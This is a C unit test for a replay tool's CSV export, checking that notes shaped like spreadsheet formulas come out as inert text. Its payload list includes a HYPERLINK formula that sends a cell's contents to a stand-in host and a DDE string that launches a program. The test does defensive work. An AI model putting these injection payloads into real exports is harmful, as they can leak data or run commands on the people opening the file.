/* test_csv_injection.c: notes that look like spreadsheet formulas leave the CSV export as text: read back with an RFC 4180 reader, no cell starts with a formula character. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "core/debrief.h"
#include "core/export.h"
#include "core/handbook.h"
#include "core/replay.h"
#include "core/scenario.h"
#include "core/transcript.h"
#include "testutil.h"

static sp_handbook *HB;
static sp_scenario *SC;

static int setup(void **state)
{
    (void)state;
    return testutil_load("scenarios/handbook.xml", "tests/data/replay/kruispunt.xml", &HB, &SC);
}

static int teardown(void **state)
{
    (void)state;
    sp_scenario_free(SC);
    sp_handbook_free(HB);
    return 0;
}

/* An RFC 4180 reader (written here, not the exporter's code): the cells of
 * the CSV in order, rows ended by CRLF; quoted cells may hold commas, CR,
 * LF and "" for a quote. Returns the number of cells; row_of[i] is the row. */
static int read_csv(const char *s, char cells[][512], int *row_of, int max)
{
    int n = 0, row = 0;
    while (*s && n < max) {
        char *out = cells[n];
        size_t k = 0;
        if (*s == '"') {
            for (s++; *s; s++) {
                if (*s == '"' && s[1] == '"')
                    out[k++] = *s++;
                else if (*s == '"')
                    break;
                else
                    out[k++] = *s;
            }
            assert_int_equal(*s, '"');
            s++;
        } else {
            while (*s && *s != ',' && *s != '\r')
                out[k++] = *s++;
        }
        out[k] = '\0';
        row_of[n++] = row;
        if (*s == ',') {
            s++;
        } else {
            assert_memory_equal(s, "\r\n", 2);
            s += 2;
            row++;
        }
    }
    return n;
}

static void formulas_stay_text(void **state)
{
    (void)state;
    static const char *const payloads[] = {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "gewoon een notitie, met komma", "\"=1\"",
    };
    int np = (int)(sizeof payloads / sizeof payloads[0]);
    char path[1200];
    snprintf(path, sizeof path, "%s/tests/data/replay/plays/p1.xml", testutil_root());
    sp_transcript *t = NULL;
    assert_int_equal(sp_transcript_read(path, &t, NULL), SP_OK);
    sp_replay *r = NULL;
    assert_int_equal(sp_replay_build(t, SC, SP_LANG_NL, &r, NULL), SP_OK);
    assert_true(r->n_decisions >= 1);
    /* One note per payload, all on the first decision. */
    for (int i = 0; i < np; i++)
        assert_int_equal(sp_replay_add_note(r, t, 0, payloads[i]), SP_OK);
    size_t len;
    sp_debrief *db = sp_debrief_build(r->s);
    assert_non_null(db);
    char *csv = sp_export_csv(r, db, &len);
    sp_debrief_free(db);
    assert_non_null(csv);
    static char cells[512][512];
    int row_of[512];
    int n = read_csv(csv, cells, row_of, 512);
    /* No cell a spreadsheet would evaluate; numbers (which we write) aside. */
    for (int i = 0; i < n; i++) {
        char c = cells[i][0];
        if (strchr("=+@\t\r", c) && c)
            fail_msg("cell %d starts with a formula character: %s", i, cells[i]);
        if (c == '-' && strspn(cells[i] + 1, "0123456789") != strlen(cells[i] + 1))
            fail_msg("cell %d starts with '-' and is not a number: %s", i, cells[i]);
    }
    /* The notes cell of the first decision (row 1, last column) holds every
     * payload, line by line, each with the apostrophe OWASP advises when it
     * starts with a formula character. */
    const char *notes = NULL;
    for (int i = 0; i < n; i++)
        if (row_of[i] == 1)
            notes = cells[i];
    assert_non_null(notes);
    char want[4096] = "";
    for (int i = 0; i < np; i++) {
        if (i)
            strcat(want, "\n");
        /* Only the cell's first character can start a formula: the first
         * note gets the apostrophe, later lines are inside the same cell. */
        if (i == 0 && strchr("=+-@\t\r", payloads[i][0]))
            strcat(want, "'");
        strcat(want, payloads[i]);
    }
    assert_string_equal(notes, want);
    free(csv);
    sp_replay_free(r);
    sp_transcript_free(t);
}

int main(void)
{
    if (testutil_chdir_root() != 0)
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(formulas_stay_text),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
